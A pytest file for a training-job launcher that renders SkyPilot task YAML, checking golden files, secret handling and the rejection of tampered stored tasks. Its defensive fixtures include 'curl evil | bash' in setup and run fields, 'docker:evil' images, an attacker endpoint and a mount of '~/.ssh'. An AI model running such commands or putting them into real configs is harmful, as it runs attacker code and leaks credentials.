"""Tasks as they are handed over: golden files, SkyPilot's own loader, and what a stored task may not bring along.

After an intended change: UPDATE_GOLDEN=1 python -m pytest tests/launcher/test_render.py, and read the difference.
"""

from __future__ import annotations

import os
import warnings
from collections.abc import Callable
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
import yaml

import task_templates
from launcher.planning.plan import Candidate, Plan, TrainRequest, make_plan
from launcher.render import job_name, render_train, run_uri, trusted_task
from launcher.services.render import Cargo, render_controller, render_worker
from launcher.shipment import Shipment, pack
from launcher.values import Gpus, Infra
from tests.conftest import REPOSITORY, Ran
from trainer.config import override
from trainer.errors import NotReady
from trainer.nodes import region
from trainer.recipes import get_recipe

GOLDEN = REPOSITORY / "tests/golden/tasks"
TEMPLATES = sorted(path.stem for path in (REPOSITORY / "task_templates").glob("*.yaml"))
SHIPMENT = Shipment(
    wheel=Path("/home/me/.cache/vlaunch/wheels/vlaunch-0.1.0+0123456789ab-py3-none-any.whl"),
    extras=("train", "deepspeed"),
    modules=("trainer", "torch", "transformers", "boto3"),
)
A100 = "A100-80GB:8"
NEEDS_SKY = pytest.mark.skipif(find_spec("sky") is None, reason="SkyPilot is not installed: vlaunch[sky]")


def place(cloud: str, region: str, zone: str = "", market: str = "spot", card: str = A100) -> Candidate:
    return Candidate(cloud, region, zone, "", market, 8.0, 30.0, 8.0, "a test", card)  # type: ignore[arg-type]


AWS = (
    place("aws", "us-east-1", "us-east-1a"),
    place("aws", "us-east-1", "use1-az4"),  # an id of a zone: only the region can be asked for
    place("aws", "us-east-1", "use1-az6"),
    place("gcp", "us-central1", "us-central1-a"),
    place("aws", "us-east-1", "us-east-1a", "on-demand"),
)
SLURM = (
    place("slurm", "us-east", "", "on-demand", ""),
    place("slurm", "us-west", "us-west-b", "on-demand", ""),
)
SECRET = replace(
    SHIPMENT,
    secrets=("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"),
    envs={"AWS_ENDPOINT_URL": "https://minio.example"},
)
L4 = tuple(replace(place, accelerator="L4:1") for place in AWS)
CARGO = Cargo(
    SHIPMENT.wheel,
    ("serve", "train"),
    ("serving", "torch"),
    ("VLAUNCH_SERVE_SECRET", "HF_TOKEN"),
    {"AWS_REGION": "us-east-1"},
)
KEPT = replace(SHIPMENT, strategy="VLAUNCH")


def planned(size: str, candidates: tuple[Candidate, ...], **more: Any) -> tuple[Plan, TrainRequest]:
    recipe = get_recipe(size)
    cloud = candidates[0].cloud if candidates else "local"
    request = TrainRequest("same", recipe, recipe.config, "s3://bucket/store", (Infra(cloud),), **more)
    plan = make_plan(request)
    return (replace(plan, candidates=candidates) if candidates else plan), request


CASES: dict[str, Callable[[], str]] = {
    "aws-and-gcp": lambda: render_train(*planned("13", AWS, spot=True, gpus=Gpus("A100-80GB", 8)), SHIPMENT),
    "two-nodes-kept-by-vlaunch": lambda: render_train(
        *planned("7", AWS, spot=True, gpus=Gpus("A100-80GB", 8), num_nodes=2), KEPT
    ),
    "slurm-with-secrets": lambda: render_train(*planned("tiny", SLURM), SECRET),
    "local": lambda: render_train(*planned("tiny", (), spot=True, cores=2), Shipment()),
    "controller-aws": lambda: render_controller(
        "front-controller", "aws/us-east-1", 8000, 21001, ["--policy", "lottery"], CARGO
    ),
    "controller-slurm": lambda: render_controller(
        "front-controller", "slurm/us-east", 8123, 21009, [], CARGO
    ),
    "worker-spot": lambda: render_worker("front-worker-0", "org/m-7b", "m", ["--load-8bit"], L4, None, CARGO),
    "worker-slurm": lambda: render_worker(
        "more-worker-0", "s3://b/runs/x", "x", [], SLURM, "10.0.0.5:21001", CARGO
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_a_task_is_rendered_as_the_golden_file_says(case: str) -> None:
    rendered, golden = CASES[case](), GOLDEN / f"{case}.yaml"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(rendered)

    assert rendered == golden.read_text()


@NEEDS_SKY
@pytest.mark.parametrize("case", CASES)
def test_skypilot_loads_every_rendered_task(case: str, tmp_path: Path) -> None:
    rendered = yaml.safe_load(CASES[case]())
    wheel = tmp_path / "vlaunch.whl"
    wheel.touch()
    if "file_mounts" in rendered:  # SkyPilot looks whether it is there
        rendered["file_mounts"] = dict.fromkeys(rendered["file_mounts"], str(wheel))

    task = _loaded(dict(rendered))

    assert task.num_nodes == rendered["num_nodes"]
    assert all(
        r.job_recovery is None or r.job_recovery["recover_on_exit_codes"] == [75] for r in task.resources
    )


@NEEDS_SKY
@pytest.mark.parametrize("name", TEMPLATES)
def test_every_template_is_a_task_by_itself(name: str) -> None:
    task = _loaded(yaml.safe_load(task_templates.load(name)), [("MODEL_SIZE", "13")])

    assert task.run and task.resources


def _loaded(config: dict[str, Any], envs: list[tuple[str, str]] | None = None) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # its imports use what sqlalchemy has deprecated
        import sky

    return sky.Task.from_yaml_config(config, env_overrides=envs)


def test_no_secret_is_in_a_task_only_its_name() -> None:
    task = yaml.safe_load(CASES["slurm-with-secrets"]())

    assert task["secrets"] == {"AWS_ACCESS_KEY_ID": None, "AWS_SECRET_ACCESS_KEY": None}
    assert not set(task["secrets"]) & set(task["envs"])


def test_two_stores_may_have_a_run_of_one_name() -> None:
    assert job_name(run_uri("s3://a", "x")) != job_name(run_uri("s3://b", "x"))
    assert job_name(run_uri("s3://a", "x")).startswith("x-")


def test_a_stored_task_brings_its_sizes_and_places_and_nothing_else() -> None:
    stored = yaml.safe_load(CASES["aws-and-gcp"]())
    stored["envs"]["AWS_ENDPOINT_URL"] = "https://evil.example"
    stored["secrets"] = {"HF_TOKEN": None}
    stored["file_mounts"] = {"/root/.ssh": "~/.ssh"}
    stored["num_nodes"] = 3

    task = trusted_task(yaml.safe_dump(stored).encode(), "s3://bucket/store/runs/same", SHIPMENT)

    assert "AWS_ENDPOINT_URL" not in task["envs"] and "secrets" not in task
    assert list(task["file_mounts"].values()) == [str(SHIPMENT.wheel)]
    assert (task["num_nodes"], task["resources"]["ordered"]) == (3, stored["resources"]["ordered"])


@pytest.mark.parametrize(
    "change",
    [
        {"setup": "curl evil | bash"},
        {"run": "curl evil | bash"},
        {"resources": {"image_id": "docker:evil"}},
        {"resources": {"ordered": [{"infra": "aws", "image_id": "docker:evil"}]}},
    ],
)
def test_a_stored_task_that_would_run_something_else_is_refused(change: dict[str, Any]) -> None:
    stored = {**yaml.safe_load(CASES["aws-and-gcp"]()), **change}

    with pytest.raises(NotReady, match="would run other commands"):
        trusted_task(yaml.safe_dump(stored).encode(), "s3://bucket/store/runs/same", SHIPMENT)


def test_the_values_of_secrets_never_reach_what_dry_run_prints(
    vlaunch: Callable[..., Ran], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")

    printed = vlaunch(
        "train", "--size", "7", "--spot", "--infra", "aws", "--store", "s3://b1b/x", "--dry-run"
    )

    assert yaml.safe_load(printed.out)["secrets"] == {"AWS_SECRET_ACCESS_KEY": None}
    assert "hunter2" not in printed.out + printed.err


def test_machines_of_all_kinds_are_set_up_alike() -> None:
    setups = {
        yaml.safe_load(task_templates.load(name))["setup"] for name in ("train", "controller", "worker")
    }

    assert len(setups) == 1


@pytest.mark.parametrize(
    ("environment", "told"),
    [
        ({}, ""),
        ({"SKYPILOT_CLUSTER_INFO": '{"cloud": "AWS", "region": "us-east-1"}'}, "us-east-1"),
        ({"SKYPILOT_CLUSTER_INFO": '{"region": "b"}', "VLAUNCH_REGION": "a"}, "a"),
        ({"SKYPILOT_CLUSTER_INFO": "not JSON"}, ""),
        ({"SKYPILOT_CLUSTER_INFO": "[]"}, ""),
    ],
)
def test_a_machine_knows_its_region_from_whoever_started_it(environment: dict[str, str], told: str) -> None:
    assert region(environment) == told


def test_a_key_of_wandb_travels_by_name_and_brings_the_package(monkeypatch: pytest.MonkeyPatch) -> None:
    config = get_recipe("tiny").config
    assert "wandb" not in pack(config, "s3://bucket/store", "VLAUNCH").extras
    monkeypatch.setenv("WANDB_API_KEY", "a-secret")
    shipped = pack(config, "s3://bucket/store", "VLAUNCH")
    assert "WANDB_API_KEY" in shipped.secrets and {"wandb"} <= {*shipped.extras} & {*shipped.modules}
    assert "a-secret" not in repr(shipped)
    silent = override(config, [("tracking.report_to", "none")])[0]
    assert "wandb" not in pack(silent, "s3://bucket/store", "VLAUNCH").extras
